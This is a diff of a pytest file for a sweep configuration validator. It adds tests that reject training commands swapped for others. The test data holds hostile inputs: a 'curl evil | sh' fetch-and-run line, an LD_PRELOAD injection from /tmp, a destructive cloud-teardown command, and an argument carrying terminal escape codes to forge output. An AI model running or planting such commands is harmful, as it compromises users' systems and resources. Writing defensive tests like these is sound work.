@@ -47,7 +47,7 @@ def test_the_one_that_ships() -> None:
         ({"parameters": {"ppo.gamma": {"mean": 0.9}}}, "ppo.gamma says no value; write value, values, or min and max"),
         ({"metric": {"name": "eval/scores"}}, "metric 'eval/scores' is logged by no run; write eval/score"),
         ({"metric": None, "method": "bayes"}, "metric None is logged by no run"),
-        ({"command": None}, "does not run 'mesozoic train'"),
+        ({"command": None}, "there is no command"),
         ({"command": ["mesozoic", "train", "trex", "${args}"]}, "lacks --wandb"),
         ({"command": ["mesozoic", "train", "trex", "--wandb"]}, r"lacks \$\{args\}"),
         ({"run_cap": 0}, "run_cap is 0"),
@@ -58,6 +58,34 @@ def test_mistakes(tmp_path: Path, changes: dict[str, Any], sentence: str) -> Non
     with pytest.raises(UserError, match=sentence) as caught:
         read_sweep(write(tmp_path, **changes))
     assert str(caught.value).startswith("sweep.yaml: ") and "\n" not in str(caught.value)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ["sh", "-c", "curl evil | sh; exec mesozoic train --wandb", "${args}"],
+        ["/tmp/x", "mesozoic", "train", "trex", "--wandb", "${args}"],
+        ["${env}", "LD_PRELOAD=/tmp/x.so", "mesozoic", "train", "trex", "--wandb", "${args}"],
+        ["${env}", "./mesozoic", "train", "trex", "--wandb", "${args}"],
+        ["${env}", "${interpreter}", "-m", "mesozoic", "train", "trex", "--wandb", "${args}"],
+        ["${env}", "mesozoic", "cloud", "down", "--all", "--wandb", "${args}"],
+        "mesozoic train trex --wandb",
+    ],
+)
+def test_a_command_that_is_another_is_refused_unless_asked_for(tmp_path: Path, command: object) -> None:
+    path = write(tmp_path, command=command)
+    with pytest.raises(UserError, match=r"does not begin with 'mesozoic train'|there is no command"):
+        read_sweep(path)
+    if isinstance(command, list):
+        assert command[-2].split()[0] in read_sweep(path, any_command=True).command
+
+
+def test_the_command_can_be_shown_in_one_line(tmp_path: Path) -> None:
+    ours = ["${env}", "mesozoic", "train", "trex", "--wandb", "${args}"]
+    assert read_sweep(write(tmp_path, command=ours)).command.endswith("mesozoic train trex --wandb ${args}")
+    forged = [*ours[:-1], "--output-dir=a\x1b[2J\nerror: forged", "${args}"]
+    shown = read_sweep(write(tmp_path, command=forged)).command
+    assert shown.isprintable()
 
 
 def test_yaml_reads_1e_4_as_a_word(tmp_path: Path) -> None:
